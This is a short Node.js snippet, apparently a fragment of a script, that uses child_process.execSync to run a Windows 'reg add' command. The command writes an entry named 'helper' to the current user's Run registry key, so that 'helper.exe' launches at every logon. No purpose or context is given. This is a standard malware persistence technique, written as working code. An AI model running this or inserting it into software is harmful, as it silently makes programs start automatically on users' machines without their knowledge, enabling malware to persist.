const { execSync } = require("child_process");

execSync('reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v helper /d helper.exe /f');
